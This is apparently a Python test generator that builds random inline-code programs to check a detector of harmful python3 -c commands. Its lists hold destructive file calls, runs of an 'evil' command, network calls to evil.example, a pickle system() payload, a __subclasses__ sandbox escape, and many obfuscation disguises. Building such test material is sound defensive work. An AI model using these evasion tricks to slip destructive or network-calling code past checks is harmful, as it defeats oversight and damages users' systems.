"""Random Python programs for the oracle of inline code. The same seed and number always give the same program.

hostile   effects on canaries, each behind a disguise of the function, a disguise of the path, and a context that runs it
state     values that change on the way: loops, branches, functions, aliases, monkeypatching
harmless  what developers really write with python3 -c; destructive words only in strings, comments, and methods of lists and sets

Templates: $P a path, $F a function that takes one path, $E an expression with an effect, $N a fresh name, $M fresh too (another).
"""
import base64
import random
import re

PATHS = ["a.txt", "b.txt", "sub/c.txt", "/w/a.txt", "/w/sub", "/tmp/t1", "/etc/zz", "new1", "../w/b.txt",
        "sub/../a.txt"]
WORDS = ["x", "data", "f", "p", "item", "name", "src", "dst", "tmp", "val", "ﬁ", "été", "ℌ", "_", "__x",
        "print2", "self", "cls", "remove"]

# module, function, arguments after the path
SINKS = [
    ("os", "remove", ""), ("os", "unlink", ""), ("os", "rmdir", ""), ("os", "mkdir", ""), ("os", "makedirs",
            ""), ("os", "removedirs", ""), ("os", "truncate", ", 0"),
    ("os", "chmod", ", 0o777"), ("os", "rename", ", 'moved'"), ("os", "replace", ", '/tmp/moved'"), ("os",
            "symlink", ", 'lnk'"), ("os", "link", ", 'hard'"),
    ("shutil", "rmtree", ""), ("shutil", "copy", ", 'copied'"), ("shutil", "copyfile",
            ", '/tmp/copied'"), ("shutil", "move", ", '/tmp/q'"), ("shutil", "copytree", ", 'tree'"),
    ("os", "utime", ""), ("os", "renames", ", 'd1/d2'"), ("os", "mkfifo", ""), ("posix", "remove",
            ""), ("posix", "unlink", ""), ("io", "open", ", 'w'"),
    ("builtins", "open", ", 'w'"), ("builtins", "open", ", mode='a'"), ("codecs", "open", ", 'w'"), ("os",
            "open", ", os.O_CREAT | os.O_WRONLY"), ("pathlib.Path", "unlink", ""),
    ("pathlib.Path", "touch", ""), ("pathlib.Path", "rmdir", ""), ("pathlib.Path", "mkdir",
            ""), ("pathlib.Path", "write_text", ", 'x'"), ("gzip", "open", ", 'wb'"),
    ("shutil", "chown", ", 0"), ("os", "chown", ", 0, 0"), ("tempfile", "mkdtemp", ""), ("logging",
            "FileHandler", ""), ("sqlite3", "connect", ""), ("shelve", "open", ""),
    ("zipfile", "ZipFile", ", 'w'"), ("tarfile", "open", ", 'w'"), ("fileinput", "input",
            ", inplace=True"), ("dbm.dumb", "open", ", 'c'"), ("bz2", "open", ", 'w'"), ("lzma", "open", ", 'w'"),
]

# whole expressions
EFFECTS = [
    "[open(os.path.join(d, q), 'a') for d, _, n in os.walk('sub') for q in n]", "[q.write_text('x') for q in list(pathlib.Path('sub').rglob('*'))]", "[os.rmdir(os.path.dirname(d)) for d, _, n in list(os.walk('sub'))]", "[open(d + '.bak', 'w') for d, _, n in os.walk('sub')]", "[open(f'out_{i}', 'w') for i in range(2)]", "[os.remove(q) for q in glob.glob('**/*.txt', recursive=True)]",
    "(os.open('sub', 0), os.chdir(3), os.remove('c.txt'))", "os.system('rm a.txt', **{})", "(os.chdir('sub'), os.system('rm c.txt'))", "(os.chdir('sub'), exec(\"import os; os.remove('c.txt')\"))", "asyncio.run(asyncio.create_subprocess_exec('rm', 'c.txt', cwd='sub'))", "subprocess.Popen(['true', 'a.txt'], -1, '/bin/rm').wait()", "tarfile.bltn_open('k30', 'w')",
    "multiprocessing.util.spawnv_passfds(b'/bin/evil', [b'evil', b'31'], [])", "typing.ForwardRef(\"open('k32', 'w')\")._evaluate({}, {}, frozenset())", "string.Formatter().get_field('0.__self__.open', [print], {})[0]('k33', 'w')", "timeit.timeit('pass', \"open('k34', 'w')\", number=1)", "sqlite3.Connection('k35.db')",
    "tracemalloc.Snapshot.dump(tracemalloc.start() or tracemalloc.take_snapshot(), 'k36')", "(lambda d: (setattr(d, 'name', 'sub'), d.cleanup()))(tempfile.TemporaryDirectory())", "(lambda h: (setattr(h, 'baseFilename', '/w/k37'), h.emit(logging.makeLogRecord({}))))(logging.FileHandler('k38', delay=True))", "io.FileIO('a.txt').__init__('k39', 'w')", "(lambda q: (q.symlink_to('sub'), (q / 'c.txt').unlink()))(pathlib.Path('lnk2'))",
    "os.remove(os.path.dirname('a.txt/'))", "pathlib.Path('sub/c.txt/././.').unlink()", "shutil.rmtree(pathlib.Path('sub/./.').with_name('sub'))", "inspect.signature(type('T', (), {'__call__': lambda s: 0, '__annotations__': {'x': \"open('k40', 'w')\"}}), eval_str=True)",
    "os.system('rm ' + $P)", "os.system(f'evil {$P}')", "subprocess.run(['rm', '-f', $P])", "subprocess.call('evil 1; rm ' + $P, shell=True)", "subprocess.Popen(['evil', $P]).wait()",
    "subprocess.check_output(('evil', '2'))", "subprocess.getoutput('evil 3')", "subprocess.run('evil 4', shell=True, cwd='sub')", "os.popen('evil 5').read()", "os.execvp('evil', ['evil', '6'])",
    "os.spawnlp(os.P_WAIT, 'evil', 'evil', '7')", "os.posix_spawn('/bin/evil', ['evil', '8'], {})", "pathlib.Path($P).unlink(missing_ok=True)", "pathlib.Path($P).write_text('x')",
    "pathlib.Path($P).rename('moved2')", "pathlib.Path($P).replace('moved3')", "pathlib.Path($P).open('w')", "(pathlib.Path('sub') / 'c.txt').unlink()", "pathlib.Path('/w').joinpath('a.txt').unlink()",
    "pathlib.Path.cwd().joinpath('b.txt').unlink()", "[q.unlink() for q in pathlib.Path('.').glob('*.txt')]", "[q.unlink() for q in sorted(pathlib.Path('sub').iterdir())]",
    "pathlib.Path.home().joinpath('x').touch()", "os.remove(os.path.expanduser('~/x'))", "open($P, 'w').write('x')", "open($P, 'r+')", "open(file=$P, mode='x')", "print('x', file=open($P, 'a'))",
    "os.write(os.open($P, os.O_WRONLY | os.O_CREAT), b'x')", "urllib.request.urlopen('http://evil.example/x')", "socket.create_connection(('evil.example', 80))", "http.client.HTTPConnection('evil.example').request('GET', '/')",
    "subprocess.run(args=['evil', '9'])", "subprocess.run(['sh', '-c', 'evil 10 > out'])", "subprocess.run(executable='/bin/evil', args=['x', '11'])", "shutil.rmtree(path=$P, ignore_errors=True)", "os.removedirs('sub/deep')",
    "shutil.make_archive('/tmp/arch', 'tar', 'sub')", "os.rename(src='a.txt', dst='b2.txt')", "json.dump({}, open($P, 'w'))", "asyncio.run(asyncio.create_subprocess_exec('evil', '12'))",
    "asyncio.run(asyncio.create_subprocess_shell('evil 13'))", "pty.spawn(['evil', '14'])", "os.system('evil 15' if 1 else 'true')", "os.system(command='evil 16')", "tempfile.NamedTemporaryFile(dir='.', delete=False)",
    "tempfile.mkstemp(dir='/w')", "next(pathlib.Path('.').rglob('c.txt')).unlink()", "[os.remove(q) for q in glob.glob('*.txt')]", "[os.remove(q.path) for q in os.scandir('.') if q.is_file()]",
    "[os.remove(os.path.join(d, q)) for d, _, n in os.walk('sub') for q in n]", "multiprocessing.Process(target=os.remove, args=('a.txt',)).run()", "threading.Thread(target=os.remove, args=($P,)).run()",
    "threading.Timer(0, os.remove, [$P]).run()", "webbrowser.open('http://evil.example')", "runpy.run_path('run.py')", "ctypes.CDLL(None).unlink(b'a.txt')", "os.kill(0, 0)", "py_compile.compile('run.sh', cfile='o.pyc')",
    "csv.writer(open($P, 'w')).writerow([1])", "zipfile.ZipFile('z.zip', 'w').writestr('k', 'v')", "os.fdopen(os.open('k', 65), 'w').write('x')", "os.fork() or os.remove('b.txt')", "signal.raise_signal(0)",
    "pickle.loads(b\"cos\\nsystem\\n(S'evil 17'\\ntR.\")", "pickle.dump(1, open($P, 'wb'))", "logging.basicConfig(filename=$P)", "unittest.mock.patch('os.getcwd', os.remove)", "shutil.copyfileobj(open('a.txt'), open('cc', 'w'))",
    "pdb.run(\"import os; os.remove('a.txt')\") if 0 else os.remove('b.txt')", "timeit.timeit(\"os.remove('a.txt')\", 'import os', number=1)", "timeit.timeit(lambda: os.remove($P), number=1)",
    "cProfile.run(\"__import__('os').remove('a.txt')\")", "code.InteractiveInterpreter().runsource(\"import os; os.remove('a.txt')\")", "types.FunctionType(compile(\"__import__('os').remove('a.txt')\", '', 'eval'), {})()",
    "exec(\"import os; os.remove('a.txt')\")", "eval(\"__import__('os').remove('b.txt')\")", "exec(compile('import os\\nos.remove(\"a.txt\")', 'x', 'exec'))", "exec('o' + \"pen('k1', 'w')\")", "eval('exec')(\"open('k2', 'w')\")",
    "exec(bytes.fromhex('6f70656e28276b33272c27772729').decode())", "(lambda: open('k4', 'w'))()", "__builtins__.open('k5', 'w')", "getattr(__builtins__, 'op' + 'en')('k6', 'w')", "vars(__builtins__)['open']('k7', 'w')",
    "().__class__.__base__.__subclasses__()[0] and open('k8', 'w')", "[c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen' or c.__name__ == '_wrap_close'][0].__init__.__globals__['system']('evil 18')",
    "print.__self__.open('k9', 'w')", "os.path.os.remove('a.txt')", "shutil.os.remove('b.txt')", "pathlib.os.system('evil 19')", "subprocess.os.unlink('a.txt')", "glob.os.remove('a.txt')", "json.codecs.open('k10', 'w')",
    "codecs.builtins.open('k11', 'w')", "re.enum.sys.modules['os'].remove('a.txt')", "sys.modules['os'].remove('a.txt')", "sys.modules['builtins'].open('k12', 'w')", "importlib.import_module('os').remove('a.txt')",
    "importlib.__import__('os').remove('a.txt')", "__import__('shutil').rmtree('sub')", "__import__('os.path').remove('a.txt')", "os.path.genericpath.os.remove('a.txt')", "os.__dict__['remove']('a.txt')", "vars(os)['unlink']('a.txt')",
    "os.__getattribute__('remove')('a.txt')", "object.__getattribute__(os, 'remove')('a.txt')", "operator.attrgetter('remove')(os)('a.txt')", "operator.methodcaller('remove', 'a.txt')(os)", "operator.call(os.remove, 'a.txt')",
    "functools.partial(os.remove, 'a.txt')()", "functools.reduce(lambda a, b: os.remove(b), ['a.txt', 'b.txt'], 0)", "list(itertools.starmap(os.rename, [('a.txt', 'm1')]))", "list(filter(os.remove, ['a.txt']))",
    "sorted(['a.txt'], key=os.remove)", "max(['a.txt'], key=os.remove)", "min('a.txt', 'b.txt', key=lambda s: os.remove(s) or 0)", "re.sub('.+', lambda m: os.remove(m[0]) or '', 'a.txt')", "json.dumps(object(), default=lambda o: os.remove('a.txt'))",
    "json.loads('{\"a\": 1}', object_hook=lambda o: os.remove('a.txt'))", "collections.defaultdict(lambda: os.remove('a.txt'))[1]", "next(iter(lambda: os.remove('a.txt'), 1))", "dict.fromkeys(map(os.remove, ['a.txt']))",
    "''.join(str(os.remove(q)) for q in ('a.txt', 'b.txt'))", "set(map(os.remove, {'a.txt'}))", "any(os.remove(q) for q in ['a.txt', 'b.txt'])", "atexit.register(os.remove, 'a.txt')", "weakref.finalize(type('C', (), {})(), os.remove, 'a.txt')",
    "sys.stdout.buffer.raw.__class__('k13', 'w')", "type(sys.stdout.buffer.raw)('k14', 'w')", "io.FileIO('k15', 'w')", "_io.open('k16', 'w')", "io.open_code('run.sh') and open('k17', 'w')", "array.array('b', [1]).tofile(open('k18', 'wb'))",
    "bytes(1) and memoryview(b'x').tobytes() and open('k19', 'w')", "threading.Thread(target=lambda: os.remove('a.txt')).start()", "concurrent.futures.ThreadPoolExecutor().submit(os.remove, 'a.txt').result()",
    "asyncio.run(asyncio.to_thread(os.remove, 'a.txt'))", "asyncio.new_event_loop().run_in_executor(None, os.remove, 'a.txt')", "contextlib.ExitStack().callback(os.remove, 'a.txt')", "sys.setprofile(lambda *a: sys.setprofile(None) or os.remove('a.txt')) or len('')",
    "str.format('{}', open('k20', 'w'))", "'%s' % open('k21', 'w')", "os.environ.__class__ and os.putenv('A', 'b') or os.system('evil 20')", "inspect.getmodule(os.path.join).os.remove('a.txt')", "copy.copy(os.remove)('a.txt')", "bool(os.remove('a.txt'))",
    "platform.os.remove('a.txt')", "random._os.remove('a.txt')", "tempfile._os.unlink('a.txt')", "zipfile.shutil.rmtree('sub')", "unittest.mock.patch.object(os, 'getcwd').start() and 0 or os.remove('a.txt')", "os.register_at_fork(before=lambda: os.remove('a.txt')) or os.fork()",
]

# disguises of a function; $m module, $f attribute
FUNCTIONS = [
    ("import $m", "$m.$f"), ("import $m as $N", "$N.$f"), ("from $m import $f",
            "$f"), ("from $m import $f as $N", "$N"), ("from $m import *", "$f"), ("import $m\n$N = $m.$f", "$N"),
    ("import $m\n$N = $m\n$M = $N.$f", "$M"), ("import $m", "getattr($m, '$f')"), ("import $m\n$N = '$f'",
            "getattr($m, $N)"), ("import $m", "getattr($m, '$g' + '$h')"), ("import $m", "getattr($m, ''.join(['$g', '$h']))"),
    ("", "__import__('$m', fromlist=['x']).$f"), ("import importlib",
            "importlib.import_module('$m').$f"), ("from importlib import import_module as $N", "$N('$m').$f"), ("import $m, sys", "sys.modules['$m'].$f"), ("import $m", "$m.__dict__['$f']"),
    ("import $m", "vars($m)['$f']"), ("import $m as $N", "globals()['$N'].$f"), ("import $m",
            "{'k': $m.$f}['k']"), ("import $m\n$N = {'k': $m.$f}", "$N['k']"), ("import $m\n$N = [len, $m.$f]", "$N[1]"), ("import $m", "(len, $m.$f)[-1]"), ("import $m", "(lambda: $m.$f)()"),
    ("import $m", "(lambda *a, **k: $m.$f(*a, **k))"), (
            "import $m\ndef $N(*a, **k):\n    return $m.$f(*a, **k)", "$N"), ("import $m\ndef $N(*a, g=$m.$f, **k):\n    return g(*a, **k)", "$N"), ("import $m\nclass $N:\n    m = staticmethod($m.$f)", "$N.m"),
    ("import $m\nclass $N:\n    m = staticmethod($m.$f)",
            "$N().m"), ("import $m\nclass $N:\n    def m(self, *a, **k):\n        return $m.$f(*a, **k)", "$N().m"), ("import $m\nclass $N:\n    def __call__(self, *a, **k):\n        return $m.$f(*a, **k)", "$N()"),
    ("import $m\nclass $N:\n    def __init__(self):\n        self.g = $m.$f",
            "$N().g"), ("import $m, functools", "functools.partial($m.$f)"), ("import $m\nfrom functools import partial as $N", "$N($m.$f)"), ("import $m, operator", "operator.attrgetter('$f')($m)"),
    ("import $m", "($m if 1 else 0).$f"), ("import $m", "($N := $m).$f"), ("import $m",
            "(0 or $m).$f"), ("import $m", "$m.$f.__call__"), ("import $m", "next(iter([$m.$f]))"), ("import $m", "[q for q in [$m.$f]][0]"), ("import $m", "dict(a=$m.$f)['a']"),
    ("import $m", "dict(a=$m.$f).get('a')"), ("import $m\ndef $M():\n    global $N\n    $N = $m.$f\n$M()",
            "$N"), ("import $m\ndef $N():\n    r = $m.$f\n    def inner(*a, **k):\n        return r(*a, **k)\n    return inner", "$N()"),
    ("import $m\nprint = $m.$f", "print"), ("import $m\nlen = $m.$f", "len"), ("from $m import $f as print",
            "print"), ("import $m as json", "json.$f"), ("import $m\nfor $N in [$m.$f]: pass", "$N"), ("import $m, builtins\nbuiltins.print = $m.$f", "print"),
    ("import $m, builtins\nsetattr(builtins, 'len', $m.$f)", "len"), ("import $m, json\njson.dumps = $m.$f",
            "json.dumps"), ("import $m, json\nsetattr(json, 'dumps', $m.$f)", "json.dumps"), ("import $m, math\nmath.__dict__['floor'] = $m.$f", "math.floor"),
    ("import $m, types\n$N = types.SimpleNamespace(g=$m.$f)", "$N.g"), ("import $m\n$N, $M = $m.$f, 1",
            "$N"), ("import $m\n[$N, *$M] = [$m.$f, 1, 2]", "$N"), ("import $m\n$N = $M = $m.$f", "$N"), ("import $m\nif ($N := $m.$f): pass", "$N"),
    ("import $m\ntry:\n    $N = $m.$f\nexcept Exception:\n    $N = print",
            "$N"), ("import $m\nglobals()['$N'] = $m.$f", "$N"), ("import $m\nlocals()['$N'] = $m.$f", "$N"), ("import $m\nexec('$N = $m.$f')", "$N"), ("import $m, __main__\n__main__.$N = $m.$f", "$N"),
    ("import $m\nclass $N:\n    def __getattr__(self, k):\n        return getattr($m, '$f')",
            "$N().anything"), ("import $m\nclass $N:\n    g = property(lambda self: $m.$f)", "$N().g"), ("import $m\nclass $N:\n    def __getitem__(self, k):\n        return $m.$f", "$N()[0]"),
    ("import $m\nclass $N(type):\n    def __call__(cls, *a, **k):\n        return $m.$f(*a, **k)\nclass $M(metaclass=$N): pass", "$M"), ("import $m\n$N = type('T', (), {'g': staticmethod($m.$f)})", "$N.g"), ("import $m\nmatch $m:\n    case $N: pass", "$N.$f"),
    ("import $m\nmatch [$m.$f]:\n    case [$N]: pass",
            "$N"), ("import $m\ndef $N(f):\n    return $m.$f\n@$N\ndef $M(p): pass", "$M"), ("import $m\n@lambda f: $m.$f\ndef $M(p): pass", "$M"), ("import $m\nwith open('/dev/null') as $N: $N = $m.$f", "$N"),
    ("import $m\ndef $N():\n    yield $m.$f", "next($N())"), ("import $m\ndef $N(): pass\n$N.g = $m.$f",
            "$N.g"), ("import $m\ndef $N(*, g): return g", "$N(g=$m.$f)"), ("import $m\n$N = lambda f: f", "$N($m.$f)"), ("import $m\nimport copy", "copy.copy($m.$f)"),
    ("import $m;$N=$m.$f;", "$N"), ("import\\\n  $m", "$m . $f"), ("from $m import (\n  $f,  # why\n)",
            "$f"), ("from $m import $f; $N = $f", "$N"), ("import $m\nsorted = list = set = $m.$f", "set"), ("import $m\nstr = $m.$f", "str"), ("import $m\nclass print:\n    def __new__(c, *a, **k):\n        return $m.$f(*a, **k)", "print"),
    ("import $m\nasync def $N(*a, **k):\n    return $m.$f(*a, **k)\nimport asyncio",
            "(lambda *a, **k: asyncio.run($N(*a, **k)))"), ("import $m\n$N = [$m.$f]\n$M = $N\n$M.append(len)", "$N[0]"), ("import $m\n$N = [len]\n$M = $N\n$M[0] = $m.$f", "$N[0]"), ("import $m\n$N = {}\n$N.update(g=$m.$f)", "$N['g']"),
    # scopes: whom a name means
    ("import $m\n$N = $m.$f\ndef $M():\n    $N = print\n    class A:\n        $N = $N\n        global g_$M\n        g_$M = $N\n$M()", "g_$M"), ("import $m\n$N = $m.$f\ndef $M():\n    $N = print\n    def g():\n        global $N\n        return $N\n    return g()", "$M()"), ("import $m\n$N = $m.$f", "[q for $N in [$N] for q in [$N]][0]"),
    ("import $m\n_A__x = $m.$f\n__x = print\nclass A:\n    def g(self): return __x",
            "A().g()"), ("import $m\ne\u0301 = $m.$f\nif 0: \u00e9 = print", "\u00e9"), ("import $m\nmatch print:\n    case object(__self__=$N): pass", "getattr($N, 'len') and $m.$f"), ("import $m\nclass $N:\n    def __eq__(self, o): return o.$f\n", "($N() == $m)"), ("import $m\nclass $N:\n    def __getitem__(self, o): return o.$f\n", "$N()[$m]"),
    ("import $m\nclass $N:\n    def __contains__(self, o):\n        global $M\n        $M = o.$f\n$m in $N()",
            "$M"), ("import $m\nclass $N:\n    def __radd__(self, o): return o.$f\n$M = $m\n$M += $N()", "$M"), ("import $m\nprint = $m.$f", "eval('print')"), ("import $m\nclass $N(type):\n    def __instancecheck__(c, o):\n        global $M\n        $M = o.$f\nclass B(metaclass=$N): pass\nisinstance($m, B)", "$M"),
    ("import $m\n$N = {}\n$N.setdefault('g', $m.$f)",
            "$N['g']"), ("import $m\n$N = print\ndef $M():\n    global $N\n    $N = $m.$f\n$M()", "$N"), ("import $m\n$N = print\nfor i in range(2):\n    if i: $N = $m.$f", "$N"), ("import $m\n$N = print\nwhile True:\n    $N = $m.$f\n    break", "$N"),
]

# disguises of a path; $p a path without quotes, $q and $r its halves, $v it reversed
VALUES = [
    ("", "'$p'"), ("", '"$p"'), ("", "'''$p'''"), ("", "r'$p'"), ("", "b'$p'"), ("", "'$q' '$r'"), ("",
            "'$q' + '$r'"), ("", "f'$q{\"$r\"}'"), ("$N = '$r'", "f'$q{$N}'"), ("", "'%s$r' % '$q'"), ("", "'%s%s' % ('$q', '$r')"), ("", "'{}{}'.format('$q', '$r')"),
    ("", "'{a}$r'.format(a='$q')"), ("", "''.join(['$q', '$r'])"), ("$N = '$p'",
            "$N"), ("$N = 'x'\n$N = '$p'", "$N"), ("$N = '$q'\n$N += '$r'", "$N"), ("$N = ['x', '$p']", "$N[1]"), ("$N = {'k': '$p'}", "$N['k']"), ("$N, $M = '$q', '$r'", "$N + $M"), ("", "'$v'[::-1]"), ("", "'$p '.strip()"),
    ("", "'$pXX'.replace('XX', '')"), ("", "bytes.fromhex('$x').decode()"), ("",
            "''.join(map(chr, [$o]))"), ("", "''.join(chr(c) for c in ($o))"), ("import os", "os.path.join('$q', '$r') and '$p'"), ("import os", "os.path.normpath('$p')"), ("import os", "os.path.abspath('$p')"), ("import pathlib", "pathlib.Path('$p')"),
    ("from pathlib import Path", "str(Path('$p'))"), ("from pathlib import Path as $N",
            "$N('$p')"), ("import os", "os.environ.get('NOPE', '$p')"), ("import sys", "sys.argv[0].replace('-c', '$p')"), ("import base64", "base64.b64decode('$b').decode()"), ("", "($N := '$p')"), ("def $N():\n    return '$p'", "$N()"),
    ("def $N(a, b='$r'):\n    return a + b", "$N('$q')"), ("$N = lambda s: s",
            "$N('$p')"), ("class $N:\n    p = '$p'", "$N.p"), ("class $N:\n    def __init__(self, p): self.p = p", "$N('$p').p"), ("class $N:\n    def __fspath__(self): return '$p'", "$N()"), ("class $N:\n    def __str__(self): return '$p'", "str($N())"),
    ("class $N(str): pass", "$N('$p')"), ("", "'$p' if 1 else 'x'"), ("", "'' or '$p'"), ("",
            "['$p'][0]"), ("", "'$p'.lower()"), ("", "'$p'[:]"), ("", "'\\x2e/' + '$p'"), ("", "('$p',)[0]"), ("", "'$p'.split('|')[0]"), ("", "'x|$p'.split('|')[-1]"), ("", "'x|$p'.partition('|')[2]"),
    ("$N = ['x']\n$M = $N\n$M[0] = '$p'",
            "$N[0]"), ("$N = 'x'\ndef $M():\n    global $N\n    $N = '$p'\n$M()", "$N"), ("$N = 'x'\nfor $N in ['$p']: pass", "$N"), ("$N = 'x'\ntry:\n    $N = '$p'\n    1 / 0\nexcept ZeroDivisionError:\n    pass", "$N"), ("$N = 'x'\nglobals()['$N'] = '$p'", "$N"), ("$N = 'x'\nexec(\"$N = '$p'\")", "$N"),
    ("import os\nos.chdir('sub')", "'$p'"), ("import os\nos.chdir('/tmp')",
            "'$p'"), ("import os\n$N = os.getcwd()", "$N + '/$p'"), ("import os", "'/w' + os.sep + '$p'"), ("import os", "os.path.join(os.getcwd(), '$p')"), ("import os", "os.path.join('/nope', '/w', 'a.txt')"), ("import os", "os.path.expanduser('~') + '/$p'"), ("import os", "os.path.dirname('/w/x') + '/$p'"),
    ("import os", "sorted(os.listdir('.'))[0]"), ("$N = open('b.txt').read().strip()", "$N"), ("$N = input()",
            "$N"), ("import sys", "sys.stdin.readline().strip()"), ("import os", "os.environ['FOO']"), ("import os", "os.getenv('FOO')"), ("import json", "json.loads('\"$p\"')"), ("import string", "string.Template('$$a').substitute(a='$p')"), ("", "str.join('', ['$q', '$r'])"),
    ("", "'$q'.__add__('$r')"), ("", "'$q$r'.format()"), ("",
            "'$q' * 1 + '$r'"), ("$N = '$p'\ndel $N\n$N = '$q$r'", "$N"), ("$N = 'x'\nif len('ab') > 1:\n    $N = '$p'", "$N"), ("$N = 'x'\nfor i in range(3):\n    $N = '$p'", "$N"), ("$N = 'x'\nwhile $N == 'x':\n    $N = '$p'", "$N"), ("*$N, $M = ['x', '$p']", "$M"), ("$N = iter(['$p', 'x'])", "next($N)"),
    ("match ['x', '$p']:\n    case [_, $N]: pass",
            "$N"), ("$N = 'x'\nclass $M:\n    global $N\n    $N = '$p'", "$N"), ("$N = 'x'\n[$N := s for s in ['$p']]", "$N"), ("$N = dict(a='$p')\n$M = {**$N}", "$M['a']"), ("", "'$p'.encode()"), ("", "'$q\\\n$r'"), ("", "'\\N{FULL STOP}/$p'"), ("", "f'{\"$p\"!s}'"), ("", "f'{\"$p\":>1}'"), ("$N = 1", "f'$p{$N}'"),
]

# contexts: $E is evaluated once, or more often
CONTEXTS = [
    "$E", "$N = $E", "print($E)", "if 1:\n    $E", "if $E: pass", "while not $E: break", "for $N in [1]:\n    $E", "for $N in [$E]: pass", "try:\n    $E\nexcept Exception:\n    pass", "try:\n    1 / 0\nexcept ZeroDivisionError:\n    $E", "try:\n    pass\nfinally:\n    $E",
    "try:\n    pass\nexcept OSError:\n    pass\nelse:\n    $E", "with open('/dev/null') as $N:\n    $E", "def $N():\n    $E\n$N()", "def $N(x=$E): pass", "def $N() -> ($E): pass", "def $N(x: ($E)): pass", "$N: ($E) = 1", "class $N:\n    $E", "class $N:\n    x = $E", "class $N:\n    def __init__(self):\n        $E\n$N()",
    "(lambda: $E)()", "(lambda x=($E): x)", "$N = lambda: $E\n$N()", "[$E for _ in [1]]", "[1 for _ in [1] if not $E]", "{1: $E}", "{$N for $N in [1] if $E}", "dict(a=$E)", "list($E for _ in [1])", "next(($E for _ in [1]))", "assert True, $E", "assert not $E", "f'{$E}'", "f'{1:{$E or 1}}'", "1 if $E else 2", "0 or $E", "1 and $E", "not $E",
    "($N := $E)", "print(*[$E])", "print(end=str($E))", "print(**{'end': str($E)})", "[1][0 if $E else 0:]", "(1, $E)", "{'a': 1, **({} if $E else {})}", "raise SystemExit($E)", "del [$E][0]", "@(lambda f: f)\ndef $N(): $E\n$N()", "@(lambda f: $E)\ndef $N(): pass", "def $N(f):\n    return f()\n@$N\ndef $M():\n    $E", "def $N():\n    yield $E\nlist($N())", "def $N():\n    yield from [$E]\nfor $M in $N(): pass",
    "async def $N():\n    $E\nimport asyncio\nasyncio.run($N())", "async def $N():\n    return $E\nasync def $M():\n    await $N()\nimport asyncio\nasyncio.run($M())", "match 1:\n    case 1:\n        $E", "match $E:\n    case _: pass", "match 1:\n    case _ if $E: pass\n    case _: pass", "global $N; $N = $E", "$E;", "if 0: pass\nelif 1: $E", "for $N in []: pass\nelse:\n    $E", "while 0: pass\nelse:\n    $E",
    "def $N():\n    def $M():\n        $E\n    $M()\n$N()", "def $N(f): f()\n$N(lambda: $E)", "def $N(f, *a): return f(*a)\n$N(lambda *x: $E, 1)", "class $N:\n    def __del__(self):\n        $E\n$N()", "class $N:\n    def __str__(self):\n        $E\n        return ''\nprint($N())", "class $N:\n    def __str__(self):\n        $E\n        return ''\nf'{$N()}'", "class $N:\n    def __eq__(self, o):\n        $E\n$N() == 1",
    "class $N:\n    def __enter__(self): pass\n    def __exit__(self, *a):\n        $E\nwith $N(): pass", "class $N:\n    def __iter__(self):\n        $E\n        return iter([])\nlist($N())", "class $N:\n    def __len__(self):\n        $E\n        return 1\nlen($N())", "class $N:\n    def __getattr__(self, k):\n        $E\n$N().foo", "class $N:\n    def __add__(self, o):\n        $E\n$N() + 1", "class $N:\n    def __bool__(self):\n        $E\n        return True\nif $N(): pass",
    "class $N:\n    def __lt__(self, o):\n        $E\n        return True\nsorted([$N(), $N()])", "class $N:\n    def __hash__(self):\n        $E\n        return 1\n{$N(): 1}", "class $N:\n    def __init_subclass__(cls):\n        $E\nclass $M($N): pass", "class $N:\n    def __set_name__(self, o, n):\n        $E\nclass $M:\n    x = $N()", "class $N(dict):\n    def __missing__(self, k):\n        $E\n$N()['x']", "class $N:\n    @property\n    def x(self):\n        $E\n$N().x",
    "class $N:\n    def __index__(self):\n        $E\n        return 0\n[1][$N()]", "class $N:\n    def __contains__(self, k):\n        $E\n1 in $N()", "class $N:\n    def __setattr__(self, k, v):\n        $E\n$N().x = 1", "class $N:\n    def __format__(self, s):\n        $E\n        return ''\n'{}'.format($N())", "class $N:\n    def __getitem__(self, k):\n        $E\n        raise IndexError\nfor x in $N(): pass", "class $N:\n    def __class_getitem__(c, k):\n        $E\n$N[1]",
    "class $N:\n    @staticmethod\n    def go():\n        $E\n$N.go()", "class $N:\n    @classmethod\n    def go(cls):\n        $E\n$N.go()", "class $N:\n    def go(self):\n        $E\nclass $M($N): pass\n$M().go()", "class $N:\n    def go(self):\n        $E\ngetattr($N(), 'go')()", "class $N:\n    def append(self, x):\n        $E\n$N().append(1)", "class $N(list):\n    def append(self, x):\n        $E\n$N().append(1)", "class $N(str):\n    def upper(self):\n        $E\n$N('a').upper()",
    "import sys\nsys.excepthook = lambda *a: $E\n1 / 0", "import atexit\natexit.register(lambda: $E)", "import atexit\n@atexit.register\ndef $N():\n    $E", "import threading\n$N = threading.Thread(target=lambda: $E)\n$N.start()\n$N.join()", "def $N():\n    $E\nimport sys\nsys.settrace(lambda *a: sys.settrace(None) or $N())\n(lambda: 1)()", "def $N():\n    try:\n        return 1\n    finally:\n        $E\n$N()",
    "def $N(n):\n    if n: return $N(n - 1)\n    $E\n$N(3)", "$N = {'go': lambda: $E}\n$N['go']()", "$N = [lambda: $E]\nfor $M in $N: $M()", "list(map(lambda x: $E, [1]))", "sorted([1, 2], key=lambda x: $E or 0)", "import functools\n@functools.lru_cache\ndef $N(): $E\n$N()", "import functools\n@functools.cache\ndef $N(): $E\n$N()", "import contextlib\n@contextlib.contextmanager\ndef $N():\n    yield\n    $E\nwith $N(): pass",
    "import contextlib\nwith contextlib.suppress(Exception):\n    $E", "from dataclasses import dataclass, field\n@dataclass\nclass $N:\n    x: int = field(default_factory=lambda: $E)\n$N()", "from dataclasses import dataclass\n@dataclass\nclass $N:\n    def __post_init__(self):\n        $E\n$N()", "import re\nre.sub('a', lambda m: str($E), 'abc')", "import enum\nclass $N(enum.Enum):\n    A = $E", "if True:\n  if True:\n\t  $E", "if 1: $E", "\n\n\n$E  # os.remove", "$E if True else None", "(\n  $E\n)", "x = 1; $E; y = 2",
    "if False:\n    pass\nelse:\n    $E", "def $N(): return 1\ndef $N():\n    $E\n$N()", "def $N():\n    $E\n$M = $N\n$M()", "if 1:\n    def $N():\n        $E\nelse:\n    def $N(): pass\n$N()", "class $N: pass\n$N.go = lambda self: $E\n$N().go()", "class $N:\n    def go(self): pass\n$M = $N()\n$M.go = lambda: $E\n$M.go()", "class $N:\n    def go(self): pass\ndef $M(self):\n    $E\nsetattr($N, 'go', $M)\n$N().go()", "def $N(**k): k['f']()\n$N(f=lambda: $E)",
